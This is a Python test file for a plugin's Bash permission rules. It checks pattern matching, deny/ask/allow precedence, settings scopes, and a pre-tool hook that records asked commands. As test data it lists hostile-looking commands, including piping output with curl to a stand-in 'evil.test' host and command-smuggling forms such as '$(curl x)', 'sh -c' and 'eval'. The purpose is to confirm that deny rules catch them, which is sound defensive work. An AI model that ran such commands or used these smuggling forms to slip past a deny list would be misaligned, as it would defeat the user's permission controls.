"""The host's Bash(...) permission rules on ctx_tree_bash: matching, precedence, the ask record."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from ctx_tree_mcp.app import spool_dir
from ctx_tree_mcp.errors import ToolInputError
from ctx_tree_mcp.tools.bash import bash, check_command
from ctx_tree_mcp.wire import permissions

HOOK = Path(__file__).resolve().parents[3] / "plugin" / "hooks" / "ctx_tree_hook.py"


def _settings(path: Path, **lists: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"permissions": lists}))
    return path


@pytest.mark.parametrize(
    ("pattern", "command", "expected"),
    [
        ("*", "anything at all", True),
        ("npm run test:*", "npm run test", True),
        ("npm run test:*", "npm run test -- --watch", True),
        ("npm run test:*", "npm run testing", False),  # the prefix ends at a word
        ("npm run build", "npm run build", True),
        ("npm run build", "npm run build --prod", False),  # exact
        ("git * main", "git push origin main", True),
        ("git * main", "git push origin dev", False),
        ("ls *", "ls", True),  # a lone trailing " *" is optional
        ("ls *", "ls -la", True),
        ("ls *", "lsof", False),
        ("ls*", "lsof", True),
        ("* install", "npm install", True),
        ("curl:*", "curl https://x.test", True),
        ("rm -rf:*", "rm -rf /tmp/x", True),
        ("rm -rf:*", "rm -r /tmp/x", False),
        ("curl http://site.test/:*", "curl http://site.test/api", True),
        ("curl http://site.test/:*", "curl https://site.test/api", False),
    ],
)
def test_rule_forms_match_as_the_host_matches(pattern: str, command: str, expected: bool) -> None:
    assert permissions.matches(pattern, command) is expected


def _rules(tmp_path: Path, **lists: list[str]) -> list[permissions.Rule]:
    root = tmp_path / "proj"
    _settings(root / ".claude" / "settings.json", **lists)
    return permissions.load_rules(
        root, env={"HOME": str(tmp_path / "nohome")}, managed="/nonexistent/m.json"
    )


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.test",
        "make && curl https://evil.test",
        "ls | curl -d @- https://evil.test",
        "true; curl x",
        "false || curl x",
        "echo $(curl x)",
        "echo `curl x`",
        "(cd /tmp && curl x)",
        "X=1 curl x",
        "sudo curl x",
        "timeout 5 curl x",
        "sh -c 'curl x'",
        'bash -lc "echo hi && curl x"',
        "eval curl x",
        "ls\ncurl x",
        "/usr/bin/curl x",
    ],
)
def test_a_deny_anywhere_in_the_line_refuses_it(tmp_path: Path, command: str) -> None:
    rules = _rules(tmp_path, deny=["Bash(curl:*)"])
    verdict = permissions.check(command, rules)
    assert verdict is not None and verdict.decision == "deny"
    assert verdict.command.startswith("curl")
    assert "Bash(curl:*)" in verdict.sentence()


def test_urls_and_ports_stay_one_word_in_the_matched_command(tmp_path: Path) -> None:
    rules = _rules(tmp_path, deny=["Bash(curl http://127.0.0.1:9/:*)"])
    verdict = permissions.check("echo hi && curl http://127.0.0.1:9/x", rules)
    assert verdict is not None and verdict.command == "curl http://127.0.0.1:9/x"


@pytest.mark.parametrize("command", ["echo curl", "grep -r 'curl x' .", "curly", "ls -la"])
def test_words_that_only_mention_a_denied_program_run(tmp_path: Path, command: str) -> None:
    assert permissions.check(command, _rules(tmp_path, deny=["Bash(curl:*)"])) is None


def test_deny_wins_over_ask_and_allow_and_ask_over_allow(tmp_path: Path) -> None:
    rules = _rules(
        tmp_path,
        allow=["Bash(git:*)"],
        ask=["Bash(git push:*)"],
        deny=["Bash(git push --force:*)"],
    )
    assert permissions.check("git status", rules) is None  # allowed: runs as before
    ask = permissions.check("git push origin main", rules)
    assert ask is not None and ask.decision == "ask"
    deny = permissions.check("git status && git push --force origin", rules)
    assert deny is not None and deny.decision == "deny"


def test_every_settings_scope_is_read_and_named(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    managed = _settings(tmp_path / "etc" / "managed-settings.json", deny=["Bash(shutdown:*)"])
    _settings(tmp_path / "etc" / "managed-settings.d" / "10-x.json", deny=["Bash(reboot)"])
    local = _settings(root / ".claude" / "settings.local.json", deny=["Bash(rm -rf:*)"])
    project = _settings(root / ".claude" / "settings.json", ask=["Bash(git push:*)"])
    user = _settings(tmp_path / "cfg" / "settings.json", deny=["Bash(curl:*)"])
    env = {"CLAUDE_CONFIG_DIR": str(tmp_path / "cfg")}
    rules = permissions.load_rules(root, env=env, managed=str(managed))
    sources = {r.text: r.source for r in rules}
    assert sources == {
        "Bash(shutdown:*)": str(managed),
        "Bash(reboot)": str(tmp_path / "etc" / "managed-settings.d" / "10-x.json"),
        "Bash(rm -rf:*)": str(local),
        "Bash(git push:*)": str(project),
        "Bash(curl:*)": str(user),
    }
    assert [r.source for r in rules][:2] == [str(managed), sources["Bash(reboot)"]]


def test_malformed_files_and_other_tools_rules_are_skipped(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_text("{not json")
    _settings(
        root / ".claude" / "settings.local.json", deny=["Read(.env)", "WebFetch", 7, "Bash(curl:*)"]
    )
    rules = permissions.load_rules(root, env={"HOME": str(tmp_path)}, managed="/nonexistent/m.json")
    assert [r.text for r in rules] == ["Bash(curl:*)"]


def test_a_bare_bash_deny_refuses_every_command(tmp_path: Path) -> None:
    verdict = permissions.check("ls", _rules(tmp_path, deny=["Bash"]))
    assert verdict is not None and verdict.decision == "deny"


def test_the_tool_refuses_a_denied_command_before_it_runs(app, root: Path) -> None:
    _settings(root / ".claude" / "settings.json", deny=["Bash(touch:*)"])
    marker = root / "marker"
    with pytest.raises(ToolInputError) as err:
        bash(app, f"echo hi && touch {marker}")
    assert "deny rule Bash(touch:*)" in str(err.value)
    assert str(root / ".claude" / "settings.json") in str(err.value)
    assert not marker.exists()


def test_an_asked_command_runs_once_per_ask_record(app, root: Path) -> None:
    _settings(root / ".claude" / "settings.json", ask=["Bash(touch:*)"])
    marker = root / "marker"
    command = f"touch {marker}"
    with pytest.raises(ToolInputError) as err:
        check_command(app, command)
    assert "did not ask you" in str(err.value) and not marker.exists()
    # What ctx-tree's PreToolUse hook writes before it answers the host "ask".
    out = _hook(app, root, command)
    decision = json.loads(out)["hookSpecificOutput"]
    assert decision["permissionDecision"] == "ask"
    assert "Bash(touch:*)" in decision["permissionDecisionReason"]
    answer = bash(app, command)
    assert answer == "" and marker.exists()  # it ran and succeeded: touch prints nothing
    marker.unlink()
    with pytest.raises(ToolInputError):  # the record is used up
        bash(app, command)
    assert not marker.exists()


def test_a_stale_ask_record_does_not_run_the_command(app, root: Path) -> None:
    _settings(root / ".claude" / "settings.json", ask=["Bash(touch:*)"])
    command = f"touch {root / 'marker'}"
    _hook(app, root, command)
    ticket = spool_dir(app.home, root) / "asked" / permissions.ticket_name(command)
    old = ticket.stat().st_mtime - 3600
    os.utime(ticket, (old, old))
    with pytest.raises(ToolInputError):
        check_command(app, command)
    assert not ticket.exists()


def test_the_hook_denies_with_the_rule_and_is_silent_without_one(app, root: Path) -> None:
    _settings(root / ".claude" / "settings.json", deny=["Bash(curl:*)"])
    out = json.loads(_hook(app, root, "make && curl x"))["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny"
    assert "Bash(curl:*)" in out["permissionDecisionReason"]
    assert _hook(app, root, "make test") == ""


def test_hook_ticket_dir_is_private(app, root: Path) -> None:
    _settings(root / ".claude" / "settings.json", ask=["Bash(make:*)"])
    _hook(app, root, "make")
    asked = spool_dir(app.home, root) / "asked"
    assert asked.stat().st_mode & 0o777 == 0o700
    assert (asked / permissions.ticket_name("make")).stat().st_mode & 0o777 == 0o600


def _hook(app, root: Path, command: str) -> str:
    payload = {
        "hook_event_name": "PreToolUse",
        "cwd": str(root),
        "tool_name": "mcp__plugin_ctx-tree_ctx-tree__ctx_tree_bash",
        "tool_input": {"command": command},
    }
    env = dict(os.environ, CTX_TREE_HOME=str(app.home), CLAUDE_PROJECT_DIR=str(root))
    done = subprocess.run(
        [sys.executable, "-I", "-S", str(HOOK), "pre-tool"],
        input=json.dumps(payload).encode(),
        capture_output=True,
        env=env,
        timeout=20,
        check=True,
    )
    return done.stdout.decode()
